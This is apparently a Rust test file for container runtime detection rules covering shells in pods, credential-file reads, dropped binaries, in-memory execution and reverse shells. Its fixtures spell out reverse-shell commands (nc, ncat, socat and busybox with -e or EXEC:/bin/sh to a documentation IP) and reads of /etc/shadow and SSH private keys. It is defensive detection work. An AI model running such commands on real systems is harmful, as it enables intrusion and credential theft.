//! The rules we ship: all of them work with what the sensor tells, each speaks when it should, is
//! silent about a near variant, and says who it was.

mod world;

use outis_detect::{Options, RuleSet, RuleState, lint, pack};
use outis_model::alert::Match;
use outis_model::event::Open;
use world::{RDONLY, Run, WRONLY, World};

const SHELL: &str = "Terminal shell in container";
const READ: &str = "Read sensitive file untrusted";
const DROPPED: &str = "Drop and execute new binary in container";

fn world() -> World {
    World::new(&[pack()])
}

#[test]
fn every_rule_is_active_without_anything_to_note() {
    let report = lint(&[pack()], &Options::default());
    assert!(report.faults.is_empty() && report.notes.is_empty(), "{report}");
    for rule in &report.rules {
        assert_eq!((&rule.state, &rule.partial[..]), (&RuleState::Active, &[][..]), "{}", rule.name);
        assert!(!rule.description.is_empty() && !rule.tags.is_empty(), "{}", rule.name);
    }
    assert!(RuleSet::compile(&[pack()], &Options::default()).is_ok_and(|set| set.infos().len() >= 3));
}

/// What every consumer of alerts relies on.
fn names_the_pod(found: &Match) {
    for (field, expected) in [
        ("container.id", "0123456789ab"),
        ("container.name", "web"),
        ("container.image.repository", "registry.example/shop/web"),
        ("container.image.tag", "1"),
        ("k8s.ns.name", "shop"),
        ("k8s.pod.name", "web-1"),
        ("user.name", "root"),
    ] {
        assert_eq!(found.fields[field], Some(expected.into()), "{field} of {}", found.rule);
        assert!(found.output.contains(expected), "{field} in {}", found.output);
    }
    assert_eq!(found.fields["user.uid"], Some(0.into()));
    for field in ["proc.cmdline", "proc.pname", "proc.name", "proc.exepath", "evt.time"] {
        assert!(found.fields[field].is_some(), "{field} of {}", found.rule);
    }
}

#[test]
fn a_shell_with_a_terminal_in_a_container_is_told_once() {
    let mut world = world();
    let said = world.run("bash").in_pod().tty().below(&["runc", "containerd-shim"]).go().said;
    assert_eq!(world::titles(&said), [SHELL]);
    names_the_pod(&said[0]);
    let silent: [fn(Run<'_>) -> Run<'_>; 4] = [
        |run| run.below(&["runc"]),
        |run| run.tty().below(&["bash", "runc"]),
        |run| run.tty().below(&["runc"]).with(|_, exec| exec.result = -2),
        |run| run.tty().below(&["runc"]).with(|task, _| task.comm = "ls".into()),
    ];
    for change in silent {
        assert_eq!(change(world.run("sh").in_pod()).rules(), [""; 0]);
    }
    assert_eq!(world.run("bash").tty().below(&["sshd"]).rules(), [""; 0], "on the node itself");
    assert_eq!(world.run("sh").in_pod().tty().below(&["python3", "sh"]).rules(), [SHELL], "a raised shell");
}

#[test]
fn credentials_are_read_by_those_who_check_logins_only() {
    let mut world = world();
    let cat = world.run("cat").in_pod().args(&["/etc/shadow"]).below(&["sh"]).go();
    let open = Open { raw: "/etc/shadow".into(), path: "/etc/shadow".into(), result: 3, ..Open::default() };
    let said = cat.opens(&mut world, open.clone());
    assert_eq!(world::titles(&said), [READ]);
    names_the_pod(&said[0]);
    assert_eq!(said[0].fields["fd.name"], Some("/etc/shadow".into()));
    assert!(cat.opens(&mut world, Open { result: -13, ..open }).is_empty(), "an attempt that failed");
    for (path, flags, expected) in [
        ("/etc/sudoers.d/90-cloud", RDONLY, true),
        ("/home/u/.ssh/id_ed25519", RDONLY, true),
        ("/home/u/.ssh/id_ed25519.pub", RDONLY, false),
        ("/etc/passwd", RDONLY, false),
        ("/etc/shadow", WRONLY, false),
    ] {
        assert_eq!(cat.open(&mut world, path, flags), [READ][..usize::from(expected)], "{path}");
    }
    let sudo = world.run("sudo").below(&["bash"]).go();
    assert_eq!(sudo.open(&mut world, "/etc/shadow", RDONLY), [""; 0]);
    let fake = world.run("/tmp/sudo").in_pod().with(|_, exec| exec.upper_layer = true).go();
    assert_eq!(fake.open(&mut world, "/etc/shadow", RDONLY), [READ], "a name is easily taken");
    let ssh = world.run("ssh").go();
    assert_eq!(ssh.open(&mut world, "/home/u/.ssh/id_rsa", RDONLY), [""; 0]);
    assert_eq!(ssh.open(&mut world, "/etc/shadow", RDONLY), [READ]);
}

#[test]
fn a_program_written_after_the_start_is_told() {
    let mut world = world();
    let said = world
        .run("/tmp/miner")
        .in_pod()
        .args(&["--token", "hunter2"])
        .below(&["sh"])
        .with(|_, exec| exec.upper_layer = true)
        .go()
        .said;
    assert_eq!(world::titles(&said), [DROPPED]);
    names_the_pod(&said[0]);
    assert!(!format!("{:?}", said[0]).contains("hunter2"), "{:?}", said[0]);
    assert_eq!(said[0].fields["proc.cmdline"], Some("miner --token [redacted]".into()));
    assert_eq!(world.run("/usr/bin/ls").in_pod().below(&["sh"]).rules(), [""; 0]);
    assert_eq!(world.run("/tmp/x").with(|_, exec| exec.upper_layer = true).rules(), [""; 0], "on the node");
}

#[test]
fn what_runs_without_a_file_or_from_shared_memory_is_told() {
    let mut world = world();
    let said = world.run("memfd:x").in_pod().below(&["sh"]).with(|_, exec| exec.memfd = true).go().said;
    assert_eq!(world::titles(&said), ["Program run from memory"]);
    names_the_pod(&said[0]);
    assert_eq!(world.run("x").below(&["runc"]).with(|_, exec| exec.memfd = true).rules(), [""; 0]);
    let said = world.run("/dev/shm/x").in_pod().below(&["sh"]).go().said;
    assert_eq!(world::titles(&said), ["Program run from shared memory"]);
    names_the_pod(&said[0]);
    assert_eq!(world.run("sh").cwd("/dev/shm").args(&["./x"]).rules(), ["Program run from shared memory"]);
    assert_eq!(world.run("sh").cwd("/srv").args(&["./x"]).rules(), [""; 0]);
    assert_eq!(world.run("/usr/bin/x").cwd("/dev/shm").rules(), [""; 0]);
}

#[test]
fn a_network_tool_that_is_given_a_program_is_told() {
    let mut world = world();
    let said =
        world.run("nc").in_pod().below(&["sh"]).args(&["192.0.2.1", "4444", "-e", "/bin/sh"]).go().said;
    assert_eq!(world::titles(&said), ["Network tool given a shell"]);
    names_the_pod(&said[0]);
    for (program, args, expected) in [
        ("nc", &["-zv", "db", "5432"][..], false),
        ("ncat", &["--sh-exec", "sh", "192.0.2.1", "1"], true),
        ("socat", &["TCP:192.0.2.1:1", "EXEC:/bin/sh"], true),
        ("socat", &["TCP-LISTEN:80,fork", "TCP:db:80"], false),
        ("busybox", &["nc", "192.0.2.1", "1", "-e", "sh"], true),
        ("curl", &["-e", "x"], false),
    ] {
        let said = world.run(program).in_pod().args(args).rules();
        assert_eq!(said, ["Network tool given a shell"][..usize::from(expected)], "{program} {args:?}");
    }
    assert_eq!(world.run("nc").args(&["-e", "sh"]).rules(), [""; 0], "on the node");
}
